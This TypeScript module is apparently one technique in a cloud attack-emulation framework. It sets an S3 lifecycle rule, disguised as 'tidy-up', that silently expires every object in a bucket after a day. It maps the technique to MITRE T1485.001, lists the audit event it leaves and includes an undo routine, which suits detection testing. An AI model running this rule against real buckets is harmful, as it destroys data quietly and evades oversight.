import { z } from 'zod';
import { ifThere } from '../../../if-there.ts';
import type { AttackTechnique } from '../../../technique.ts';

const inputs = z.object({ bucket: z.string().min(3).max(63) });

/** Nobody has to delete: the bucket is told to do it itself, one day later. */
export const technique: AttackTechnique<z.infer<typeof inputs>> = {
  id: 'impact.lifecycle-deletion',
  title: 'Let a bucket expire its own objects',
  purpose: 'No burst of deletions to alarm anybody, and tomorrow all of it is gone.',
  mitre: ['T1485.001'],
  awsThreatTechniques: ['T1485.001'],
  sources: [
    {
      title: 'Data Destruction: Lifecycle-Triggered Deletion, MITRE ATT&CK',
      url: 'https://attack.mitre.org/techniques/T1485/001/',
    },
    {
      title: 'PutBucketLifecycleConfiguration, Amazon S3 API Reference',
      url: 'https://docs.aws.amazon.com/AmazonS3/latest/API/API_PutBucketLifecycleConfiguration.html',
    },
  ],
  inputs,
  actsAs: 'insider',
  needsStage: { bucket: {} },
  needs: ['s3:PutLifecycleConfiguration'],
  leaves: [{ service: 's3.amazonaws.com', name: 'PutBucketLifecycle', outcome: 'succeeds' }],
  repeatable: true,
  async detonate({ inputs: { bucket }, aws, say }) {
    say(`Let everything in ${bucket} expire after a day`);
    await aws.s3().putBucketLifecycleConfiguration({
      Bucket: bucket,
      LifecycleConfiguration: {
        Rules: [
          { ID: 'tidy-up', Status: 'Enabled', Filter: { Prefix: '' }, Expiration: { Days: 1 } },
        ],
      },
    });
  },
  undo: {
    kind: 'call',
    async plan({ inputs: { bucket: Bucket }, aws }) {
      const before = await ifThere('NoSuchLifecycleConfiguration', () =>
        aws.s3().getBucketLifecycleConfiguration({ Bucket }),
      );
      return async () => {
        if (before?.Rules === undefined) await aws.s3().deleteBucketLifecycle({ Bucket });
        else {
          await aws.s3().putBucketLifecycleConfiguration({
            Bucket,
            LifecycleConfiguration: { Rules: before.Rules },
          });
        }
      };
    },
  },
};
